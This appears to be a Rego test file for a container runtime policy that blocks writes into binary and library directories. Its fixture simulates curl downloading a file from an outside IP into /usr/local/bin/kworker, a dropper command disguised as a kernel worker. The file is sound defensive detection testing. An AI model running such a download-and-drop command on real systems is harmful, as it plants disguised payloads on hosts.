package palisade.runtime.write_binary_dir_test

import data.lib.runtime_input.as_proc
import data.lib.runtime_input.event
import data.lib.runtime_input.host
import data.palisade.runtime.write_binary_dir as rule

open(path, write) := event("open", object.union(as_proc("/usr/bin/curl", ["curl", "-o", path, "http://203.0.113.7/x"]), {"file": {"path": path, "write": write, "flags": 577}}))

test_dropped_binary_denied if {
	some r in rule.deny with input as open("/usr/local/bin/kworker", true)
	r.msg == "/usr/bin/curl in container \"web\" (image nginx:1.27) opened /usr/local/bin/kworker for writing: curl -o /usr/local/bin/kworker http://203.0.113.7/x"
}

test_library_denied if {
	count(rule.deny) == 1 with input as open("/lib/x86_64-linux-gnu/libc.so.6", true)
}

test_read_allowed if {
	count(rule.deny) == 0 with input as open("/usr/bin/curl", false)
}

test_app_directory_under_usr_allowed if {
	count(rule.deny) == 0 with input as open("/usr/src/app/uploads/a.png", true)
	count(rule.deny) == 0 with input as open("/usr/local/tomcat/logs/catalina.out", true)
}

test_bytecode_cache_allowed if {
	count(rule.deny) == 0 with input as open("/usr/local/lib/python3.12/site-packages/x/__pycache__/y.cpython-312.pyc", true)
}

test_package_manager_allowed if {
	count(rule.deny) == 0 with input as object.union(open("/usr/bin/curl", true), as_proc("/usr/bin/dpkg", ["dpkg", "--unpack", "curl.deb"]))
}

test_host_allowed if {
	count(rule.deny) == 0 with input as host(open("/usr/bin/x", true))
}
